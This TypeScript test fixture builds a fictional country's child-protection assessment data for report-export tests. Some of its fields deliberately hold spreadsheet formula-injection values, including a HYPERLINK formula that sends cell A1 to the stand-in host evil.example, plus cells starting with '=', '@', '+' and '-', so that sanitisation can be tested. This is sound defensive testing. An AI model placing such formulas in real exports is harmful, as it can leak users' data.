// A fictional country with three cycles on the real MNR 2022.1 definition. The current cycle
// carries every kind of record the exports handle, including text that tries formula injection.
import { mnr } from "@/lib/scoring/test-fixtures";
import { localiseDefinition } from "@/lib/framework/localise";
import { shippedTranslation } from "@/lib/framework/shipped-translations";
import { type LabelKey, type ReportLabels, englishLabels } from "./labels";
import type { AnswerRecord, EvidenceRecord, ReportInput } from "./model";
import { toCycleInput } from "./build-report";

export const CURRENT_ID = "asm-2024";
export const FRENCH_REASONING = "Réflexion détaillée : la stratégie nationale « Protéger l'enfance » a été adoptée; coût élevé à côté.";
export const HYPERLINK_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
export const RESTRICTED_TITLE = "Rapport confidentiel de la police judiciaire";
export const INTERNAL_TITLE = "Internal ministry memo on helpline staffing";
export const PUBLIC_TITLE = "National Child Protection Strategy 2023";
export const COMMENT_BODY = "Please double-check the helpline figures before validation.";

/** Answers are [key, level, target, confidence]; the rest default to plain values. */
function answers(rows: [string, number | null, number | null, AnswerRecord["confidence"]][]): AnswerRecord[] {
  return rows.map(([capabilityKey, level, targetLevel, confidence]) => ({
    capabilityKey,
    level,
    notApplicable: false,
    notApplicableReason: null,
    reasoning: "",
    confidence,
    targetLevel,
    targetDate: null,
    leadAgency: "",
  }));
}

const keys = mnr.capabilities.map((c) => c.key);

const cycle2020 = answers(keys.map((k, i) => [k, i % 3, null, "low"]));
const cycle2022 = answers(keys.map((k, i) => [k, Math.min(4, (i % 3) + 1), null, "medium"]));

function currentAnswers(): AnswerRecord[] {
  const rows = answers(keys.map((k, i) => [k, Math.min(4, (i % 4) + 1), Math.min(4, (i % 4) + 2), i % 2 ? "high" : "medium"]));
  const set = (key: string, over: Partial<AnswerRecord>) => {
    const row = rows.find((r) => r.capabilityKey === key)!;
    Object.assign(row, over);
  };
  set("leadership", { reasoning: FRENCH_REASONING, leadAgency: "Ministère de la Justice", targetDate: "2026-12-31" });
  set("legislation", { level: 1, targetLevel: 4, reasoning: HYPERLINK_TEXT, leadAgency: "+1 Parliament committee", targetDate: "2027-06-30" });
  set("child-helpline", { reasoning: "@SUM(A1:A9)", leadAgency: "-Helpline trust" });
  set("offender-support-systems", {
    level: null,
    targetLevel: null,
    confidence: null,
    notApplicable: true,
    notApplicableReason: "Handled by the regional body, not nationally.",
  });
  set("innovative-solutions", { level: null, targetLevel: null, confidence: null });
  return rows;
}

function currentEvidence(): EvidenceRecord[] {
  const base = { kind: "reference" as const, issuer: "Government", issuedOn: "2023-03-01" };
  return [
    { ...base, capabilityKey: "leadership", title: PUBLIC_TITLE, url: "https://example.org/strategy", sensitivity: "public" },
    { ...base, capabilityKey: "child-helpline", title: INTERNAL_TITLE, url: null, sensitivity: "internal" },
    { ...base, capabilityKey: "legislation", title: RESTRICTED_TITLE, url: null, issuedOn: null, sensitivity: "restricted" },
    { ...base, capabilityKey: "legislation", kind: "file", title: "penal-code-2021.pdf", url: null, sensitivity: "public" },
  ];
}

export function makeFixtureInput(): ReportInput {
  const current = currentAnswers();
  const evidence = currentEvidence();
  const oldEvidence = keys.map((capabilityKey) => ({ capabilityKey }));
  return {
    country: { iso2: "ZZ", name: "Testland", region: "Africa", incomeGroup: "lower-middle" },
    assessment: {
      id: CURRENT_ID,
      title: "Évaluation nationale 2024",
      period: "2024",
      status: "validated",
      validatedAt: "2024-11-15T09:30:00.000Z",
      frameworkKey: mnr.key,
      frameworkVersion: mnr.version,
    },
    def: mnr,
    cycles: [
      toCycleInput({ id: "asm-2020", period: "2020", status: "validated" }, mnr, cycle2020, []),
      toCycleInput({ id: "asm-2022", period: "2022", status: "validated" }, mnr, cycle2022, oldEvidence),
      toCycleInput({ id: CURRENT_ID, period: "2024", status: "validated" }, mnr, current, evidence),
    ],
    answers: current,
    evidence,
    actions: [
      { capabilityKey: "legislation", what: "Draft the amendment on grooming offences", owner: "Ministry of Justice", dueOn: "2025-06-30", status: "in_progress" },
      { capabilityKey: "legislation", what: "=1+1 consult parliament", owner: "@Policy unit", dueOn: "2025-03-01", status: "planned" },
      { capabilityKey: "child-helpline", what: "Extend hours to 24/7", owner: "Helpline trust", dueOn: "2024-01-31", status: "done" },
    ],
    enablers: [
      { enablerKey: "resources", rating: "partial", notes: "Budget line approved for 2025." },
      { enablerKey: "cross-sector-collaboration", rating: "strong", notes: "" },
    ],
    comments: [{ capabilityKey: "child-helpline", authorName: "Amina K.", body: COMMENT_BODY, createdAt: "2024-10-02T08:00:00.000Z" }],
  };
}

/** The report labels of a shipped catalogue (as the app reads them), for tests in other languages. */
export function catalogueLabels(catalogue: { report: unknown }, locale: string): ReportLabels {
  const lookup = (key: string) => key.split(".").reduce<unknown>((node, part) => (node as Record<string, unknown> | undefined)?.[part], catalogue.report);
  const entries = (Object.keys(englishLabels) as LabelKey[]).map((key) => {
    const value = key === "locale" ? locale : lookup(key);
    if (typeof value !== "string") throw new Error(`catalogue has no report.${key}`);
    return [key, value];
  });
  return Object.fromEntries(entries) as ReportLabels;
}

/** The fixture as an Arabic reader gets it: framework names and descriptors in Arabic. */
export function makeArabicFixtureInput(): ReportInput {
  const input = makeFixtureInput();
  const def = localiseDefinition(input.def, shippedTranslation(input.def.key, input.def.version, "ar"));
  return { ...input, def, country: { ...input.country, name: "كينيا" } };
}
